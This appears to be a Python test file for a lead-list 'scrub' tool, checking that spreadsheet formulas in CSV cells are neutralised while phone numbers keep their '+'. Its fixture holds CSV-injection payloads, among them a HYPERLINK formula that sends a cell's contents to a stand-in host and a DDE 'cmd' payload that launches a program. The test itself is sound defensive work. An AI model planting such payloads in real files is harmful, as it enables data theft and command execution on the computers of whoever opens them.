"""`scrub`'s output opened in a spreadsheet runs no formula (session 22).

The lead file is a vendor's: a name cell ``=HYPERLINK(...)`` or ``@SUM(...)`` went into the
scrubbed CSV as it came, and ran when the officer opened it in Excel (evidence and report
CSVs neutralise such a cell since hrev49: ``spreadsheet_cell``). A dialable number keeps
its ``+``: the dialer loading the file reads it.
"""

from __future__ import annotations

import csv

from tests.log_files import cli, config


def test_scrub_output_neutralises_formulas_and_keeps_numbers(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    path = config(tmp_path, data)
    leads = tmp_path / "leads.csv"
    leads.write_text('name,phone,note\n'
                     '"=HYPERLINK(""http://x.example/?""&A1,""see"")",+1 801 555 0123,ok\n'
                     '@SUM(1+1),801-555-0124,"-2+cmd|\' /C calc\'!A0"\n'
                     '"\tTab",+18015550125,+plain\n'
                     'Ann,=1+2,fine\n', newline="")
    out = tmp_path / "out.csv"
    ran = cli("scrub", str(leads), "--campaign", "ut-solar-manual", "--at",
              "2026-12-07T11:00:00-07:00", "--output", str(out), config_path=path)
    assert ran.returncode == 0, ran.stderr
    rows = list(csv.reader(out.open(newline="")))
    assert rows[0][:3] == ["name", "phone", "note"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"see\")",
                                    "'@SUM(1+1)", "'\tTab", "Ann"]
    assert [r[2] for r in body] == ["ok", "'-2+cmd|' /C calc'!A0", "'+plain", "fine"]
    # a dialable number as it was (the dialer reads it); a formula in its place is not one
    assert [r[1] for r in body] == ["+1 801 555 0123", "801-555-0124", "+18015550125",
                                    "'=1+2"]
    for row in body:  # no cell of the output starts a formula
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), row
